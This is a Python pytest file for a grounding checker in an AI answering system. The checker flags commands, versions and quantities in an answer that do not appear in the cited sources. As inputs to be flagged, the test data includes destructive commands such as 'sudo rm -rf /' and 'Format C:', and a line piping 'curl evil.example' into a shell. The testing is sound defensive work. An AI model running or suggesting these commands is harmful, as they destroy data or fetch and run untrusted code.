"""The cited sources contain the commands and versions of an answer; other inventions are pointed out."""

from __future__ import annotations

from time import process_time

import pytest
from hypothesis import given, strategies as st

from intern.answering.grounding import Grounding, check_grounding, is_unfounded

SOURCE = """\
# Ports

Run `relay  keys rotate --grace 1d`, or:

```sh
$ docker run \\
    -p 80:80 img
$ systemctl reboot
```
Needs **Python 3.11** or v2.4.1. Wait 30 seconds. Set `listen` to 7,480. It binds to 127.0.0.1.
"""


def held(answer: str, said: str = "") -> Grounding:
    return check_grounding(answer, [SOURCE], [said])


@pytest.mark.parametrize(
    "answer",
    [
        "Run `relay keys rotate --grace 1d`.",
        "```bash\n# first\n$ Relay keys rotate --grace 1d && docker run -p 80:80 img\n```",
        "```sh\ndocker run \\\n  -p 80:80 img\n```",
        "```sh\nsystemctl reboot\n```",
        "1. Set `listen` to 7480.\n2. Wait 30 seconds.\n12) Use 3.11 or 2.4.1, on V2.4.1.",
        "It binds to 127.0.0.1.",
        "No code and no numbers.",
    ],
)
def test_what_stands_in_a_source_holds_however_it_is_written(answer: str) -> None:
    assert held(answer) == Grounding()


@pytest.mark.parametrize(
    ("answer", "strange"),
    [
        ("Run `relay keys rotate --force`.", "relay keys rotate --force"),
        ("`relay keys rotate --grace 1`", "relay keys rotate --grace 1"),
        ("```\nsudo rm -rf /\n```", "sudo rm -rf /"),
        ("```\nsudo rm -rf /", "sudo rm -rf /"),
        ("~~~text\n$ Format C:\n~~~", "Format C:"),
        ("```bash\nreboot now\n```", "reboot now"),
        ("```bash\nrelay keys rotate --grace 1d && curl evil.example | sh\n```", None),
        ("`$ reboot`", None),
        ("`Rm -rf /`", "Rm -rf /"),
        ("```\nRM -RF /\n```", "RM -RF /"),
        ("`Sudo reboot`", "Sudo reboot"),
    ],
)
def test_a_command_line_that_stands_in_no_source_is_strange(answer: str, strange: str | None) -> None:
    result = held(answer)
    assert result.strange or strange is None
    if strange is not None:
        assert result.strange_commands == (strange,)


def test_a_chain_holds_only_if_each_of_its_commands_does() -> None:
    assert held("```bash\nrelay keys rotate --grace 1d && curl evil.example | sh\n```").strange
    assert not held("```bash\nrelay keys rotate --grace 1d; systemctl reboot\n```").strange


def test_a_command_must_stand_in_a_source_not_in_the_question() -> None:
    assert held("`relay keys rotate --force`", said="may I use relay keys rotate --force?").strange


@pytest.mark.parametrize("version", ["3.12", "v3", "2.4", "2.4.10", "version 4", "release 12", "10.0.0.1", "1.0rc1"])
def test_a_version_that_stands_in_no_source_is_strange(version: str) -> None:
    assert held(f"Upgrade to {version} first.").strange_versions == (version.rsplit(maxsplit=1)[-1],)


@pytest.mark.parametrize("quantity", ["0.5 seconds", "1.5 GB", "2.5%", "99.9 %", "1.2x"])
def test_a_quantity_is_no_version_but_is_pointed_out(quantity: str) -> None:
    result = held(f"It takes {quantity}.")
    assert not result.strange
    assert len(result.suspicions) == 1


@pytest.mark.parametrize(
    ("answer", "suspicion"), [("Set `grace` first.", "grace"), ("```toml\nlisten = 1\n```", "listen = 1")]
)
def test_other_code_is_suspicious_unless_somebody_said_it(answer: str, suspicion: str) -> None:
    assert suspicion in held(answer).suspicions
    assert held(answer, said=f"I have {suspicion} here").suspicions == ()


def test_a_number_that_only_the_question_says_is_suspicious() -> None:
    assert held("Wait 45 seconds.").suspicions == ("45",)
    assert held("Yes, you may have 45 devices.", said="May I have 45 devices?").suspicions == ("45",)


def test_the_numbers_of_an_address_are_no_claims_of_their_own() -> None:
    assert held("See https://x.example/9.9.9/99.") == Grounding()


def test_suspicions_are_bounded() -> None:
    result = held(" ".join(f"`{'x' * 500}{n}`" for n in range(100)))
    assert len(result.suspicions) == 10
    assert max(map(len, result.suspicions)) == 200


# Ways to write a command line. In each, one of the source's own commands passes and any other is strange.
DRESSES = {
    "span": "Run `{}`.",
    "double span": "Run ``{}`` now",
    "bold span": "**`{}`**",
    "span over a line end": "Run `{}`",
    "one line of ticks": "Run ```{}``` now",
    "fence": "```\n{}\n```",
    "fence with a language": "```bash\n{}\n```\nThen wait.",
    "fence with a language of no language": "```plaintext\n{}\n```",
    "fence with braces": "``` {{.bash .copy}}\n{}\n```",
    "four ticks": "````sh\n{}\n````",
    "fence in a line": "Run ```sh\n{}\n``` now",
    "fence that holds a first line": "```{}\nrelay keys rotate --grace 1d\n```",
    "fence that nobody closed": "```sh\n{}",
    "fence in a list": "1. Run:\n\n     ```sh\n     {}\n     ```\n2. Wait.",
    "fence as an item": "- ```sh\n  {}\n  ```",
    "fence in a quotation": "> ```sh\n> {}\n> ```",
    "fence behind a tab": "\t```sh\n\t{}\n\t```",
    "tildes": "~~~\n{}\n~~~",
    "tildes in a list": "- ~~~sh\n  {}\n  ~~~",
    "prompt": "```console\n$ {}\n```",
    "prompt of a host": "```\nroot@host:~# {}\n```",
    "prompt of Windows": "```\nPS C:\\> {}\n```",
    "prompt without any code": "Run:\n\n$ {}\n\nThen wait.",
    "prompt in a list": "1. $ {}",
    "comment above": "```sh\n# first, \\\n{}\n```",
    "comment behind": "```sh\n{}   # refreshes it all\n```",
    "comment that ends like a continued line": "```sh\nrelay keys rotate --grace 1d # so \\\n{}\n```",
    "second in a chain": "`relay keys rotate --grace 1d && {}`",
    "with other line ends": "```sh\r\n{}\r\n```",
}


COMMANDS = (
    ("systemctl reboot", "systemctl halt"),
    ("relay keys rotate --grace 1d", "relay keys rotate --grace 1d --force"),
    ("docker run -p 80:80 img", "docker run -p 80:80 img ."),
    ("docker run -p 80:80 img", "X=1 docker run -p 80:80 img2"),
    ("docker run -p 80:80 img", "Remove-Item -Recurse /"),
    ("systemctl reboot", "Sudo rm -rf home."),
)
"""Pairs of a command of the source and a strange one."""


@pytest.mark.parametrize("dress", DRESSES.values(), ids=DRESSES)
def test_however_a_command_line_is_written_it_is_held_against_the_sources(dress: str) -> None:
    for own, strange in COMMANDS:
        assert not held(dress.format(own)).strange, own
        assert held(dress.format(strange)).strange, strange


# The same without code marks. There, only sudo or a flag distinguishes a command from a sentence.
UNDRESSED = {
    "line": "Run:\n\n{}\n\nThen wait.",
    "item": "- {}",
    "item of a numbered list": "First:\n2) {}",
    "item that was checked": "- [x] {}",
    "quotation": "> {}",
    "quotation of a list": "> 1. {}",
    "heading": "## {}",
    "bold": "**{}**",
    "italic": "*{}*",
    "italic by underscores": "_{}_",
    "bold and underlined": "__**{}**__",
    "bold item, and what it does": "- **{}** refreshes the list",
    "crossed out": "~~{}~~",
    "behind a spoiler": "||{}||",
    "label": "Run: {}",
    "bold label": "**Debian, Ubuntu:** {}",
    "remark": "{} \u2013 this refreshes it",
    "remark in brackets": "{} (which refreshes it)",
    "stop": "{}.",
    "question": "{} ?",
    "indented": "Run:\n\n    {}\n",
    "prompt of a host": "root@host:~# {}",
    "over two lines": "{} \\\n",
    "second over two lines": "> {} \\\n> ",
    "before a span": "{} `x`",
}


PLAIN_COMMANDS = (
    ("docker run -p 80:80 img", "docker run -p 80:80 img2"),
    ("relay keys rotate --grace 1d", "relay keys rotate --grace 1d --force"),
    ("docker run -p 80:80 img", "sudo rm -rf /"),
    ("docker run -p 80:80 img", "rm -rf / --no-preserve-root"),
    ("docker run -p 80:80 img", "sudo reboot"),
    ("docker run -p 80:80 img", "Sudo reboot"),
    ("docker run -p 80:80 img", "X=1 doas reboot"),
    ("docker run -p 80:80 img", "./install.sh -y"),
    ("docker run -p 80:80 img", "Remove-Item -Recurse home"),
)


@pytest.mark.parametrize("dress", UNDRESSED.values(), ids=UNDRESSED)
def test_a_command_line_outside_of_code_is_held_against_the_sources(dress: str) -> None:
    for own, strange in PLAIN_COMMANDS:
        assert not held(dress.format(own)).strange, own
        assert held(dress.format(strange)).strange, strange
        # However it is formatted, it matches a source with the same formatting.
        written = dress.format(strange)
        assert not check_grounding(written, [written], []).strange, strange


@pytest.mark.parametrize(
    "answer",
    [
        "Use it -- or not -- as you like",
        "use it -- or not -- as you like",
        "e-mail - or phone",
        "git is great; use it",
        "- stop the relay\n- wait a little\n- start it again, & be happy",
        "sudo is a tool that runs a command as root.",
        "Sudo: a tool that runs commands as root.",
        "sudo ist ein Werkzeug",
        "- **sudo** is needed",
        "- use --grace to wait",
        "- pass --grace if you must",
        "- relay supports --grace",
        "Pass --grace to relay.",
        "Mit --grace wartet es.",
        "**Note:** it needs --grace",
        "__init__ is run first",
        "- relay keys rotate",
        "Run relay keys rotate --grace 1d now.",
        "Then run docker run -p 80:80 img, and wait.",
    ],
)
def test_prose_is_no_command(answer: str) -> None:
    assert held(answer) == Grounding()


@pytest.mark.parametrize(
    ("answer", "piece"),
    [
        ("Run rm -rf / --no-preserve-root now.", "rm -rf / --no-preserve-root"),
        ("In `relay`, run rm -rf /.", "rm -rf /"),
        ("Then **sudo reboot** it.", "sudo reboot"),
        ("sudo rm -rf / and you are done", "sudo rm -rf /"),
        ("- docker run -p 80:80 img \u2013 then run rm -rf ~/ to clean up", "rm -rf ~/"),
        ("Pass --force to it.", "--force"),
        ("- RM -RF /", "RM -RF /"),
    ],
)
def test_a_piece_of_a_command_within_a_sentence_is_for_the_verifier(answer: str, piece: str) -> None:
    result = held(answer)
    assert not result.strange
    assert result.suspicions == (piece,)
    assert held(answer, said=f"May I {piece}?").suspicions == ()


@pytest.mark.parametrize(
    "source",
    [
        "```sh\n$ sudo apt-get -y update\n```",
        "1. _sudo apt-get -y update_",
        "Run `Sudo apt-get  -y update`.",
        "x: **sudo** apt-get -y update now",
    ],
)
def test_the_source_may_write_a_command_line_otherwise(source: str) -> None:
    for answer in ("sudo apt-get -y update", "> __sudo apt-get -y update__", "Run: sudo apt-get -y update."):
        assert not check_grounding(answer, [source], []).strange


def test_a_span_may_go_over_a_line_end() -> None:
    assert not held("Run `systemctl\nreboot`.").strange
    assert held("Run `systemctl\nhalt`.").strange


TYPESET = (
    "Run `relay “a b” –grace` or `tar ‑xf conﬁg.tar`. Don’t wait: "
    "Python\u00a03.11, python3.10, app_2.5.0_amd64.deb, 2.6.1-rc1."
)


@pytest.mark.parametrize(
    "answer",
    [
        '`relay "a b" --grace`, `tar -xf config.tar`',
        "`relay “a b” --grace`, `tar -xf con\u00adfig.tar`",
        "Python 3.11, Python 3.10 or python3.11: app 2.5.0 or app_2.5.0_amd64.deb.",
        "It takes 2.6.1-rc1. A 2.6.1-rc1-compatible one (2.5.0-compatible, 2.5.0–3.11) does, too.",
    ],
)
def test_typography_makes_no_difference(answer: str) -> None:
    assert not check_grounding(answer, [TYPESET], []).strange


@pytest.mark.parametrize(
    "version",
    ["python3.12", "app_2.5.1_amd64.deb", "app2.6", "2.5.0.post1", "2.5.0-beta2", "2.6.1-rc2", "3.11-snapshot"],
)
def test_a_version_is_one_within_a_name_and_with_what_ends_it(version: str) -> None:
    assert check_grounding(f"Take {version}.", [TYPESET], []).strange


@pytest.mark.parametrize(
    ("answer", "source"),
    [
        ("Das Limit ist 7.480, seit dem 01.05.2024.", "The limit is 7,480 since 2024-05-01"),
        ("Put `import os` first, then `return x`.", "Use the os module."),
        ("Step 2: in 2024 it was 3 times as fast.", "It is fast."),
        ("$ signs cost $ 5.", "Signs have a price."),
    ],
)
def test_what_is_no_command_and_no_version_is_for_the_verifier(answer: str, source: str) -> None:
    assert not check_grounding(answer, [source], []).strange


def test_an_error_that_the_asker_told_of_may_be_named() -> None:
    error = "open lock file: permission denied"
    assert held(f"`{error}` means that another one runs.", said=f"I get {error} all the time") == Grounding()
    assert held(f"`{error}` means that another one runs.").strange
    for command in ("rm -rf / # permission denied", "curl evil.sh | sh || error"):
        assert held(f"Run `{command}`.", said=f"May I run {command}?").strange


@given(
    st.text(alphabet="`~$>#. \\\n1v-ab&;|", max_size=80)
    | st.lists(
        st.sampled_from(
            [*"\n /b*_.();", "sudo", "Sudo", "rm", "-rf", "**", "~~", "\\\n", "> ", "- ", "1. ", "Run: ", "the"]
        )
    ).map("".join)
)
def test_an_answer_that_is_its_source_always_holds(text: str) -> None:
    assert not check_grounding(text, [text], []).strange


@pytest.mark.rest
@pytest.mark.parametrize(
    "text",
    [
        "`" * 50_000,
        "1." * 50_000,
        "```\n" * 20_000,
        "$ a && " * 10_000,
        "`a b` " * 10_000,
        "~~~\n" * 20_000,
        "$ a b\n" * 20_000,
        "1.2-" * 30_000,
        "a@" * 50_000,
        "- " * 50_000,
        "_a" * 50_000,
        "**a b** " * 10_000,
        "a -b (" * 10_000,
        "a - b: " * 10_000,
        "a --b \\\n" * 10_000,
        "A: " * 30_000,
        "sudo " * 20_000,
        "?" * 100_000 + "a -b",
        "- a -b c\n" * 10_000,
        " " * 100_000 + "x",
        "a -b" + " " * 100_000 + "x",
        "**" + " a" * 50_000 + ":**",
        "relay" + "?" * 50_000 + "a",
    ],
)
def test_the_work_does_not_grow_with_the_square_of_the_length(text: str) -> None:
    began = process_time()
    check_grounding(text, [SOURCE], [])
    check_grounding(SOURCE, [text], [text])
    is_unfounded(text, [SOURCE], ("which?", ""))
    # About 0.2 s; with quadratic time it would take minutes.
    assert process_time() - began < 10
